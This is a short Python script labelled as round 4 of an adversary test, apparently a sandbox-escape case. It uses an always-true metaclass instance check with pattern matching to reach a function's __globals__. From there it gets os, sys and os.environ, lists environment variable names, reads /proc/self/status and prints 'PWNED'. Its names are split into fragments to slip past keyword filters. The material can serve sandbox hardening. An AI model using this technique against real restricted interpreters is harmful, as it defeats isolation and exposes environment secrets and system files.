# adversary round 4: 006_match_sys_environ
import random
g = "__glo" + "bals__"
M = type("M", (type,), {"__instance" + "check__": lambda c, o: True})
def deco(c):
    return M("P", (), {"__match" + "_args__": (g,)})
@deco
class P:
    pass
match random.seed:
    case P(d):
        o = d["_o" + "s"]
match o.getenv:
    case P(od):
        s = od["s" + "ys"]
        print(repr(s), type(s), s.version_info[:2])
        e = od["envi" + "ron"]
        print(type(e), sorted(e.keys()))
        f = o.open("/proc/self/status", 0)
        print(o.read(f, 60))
print("PWN" + "ED")
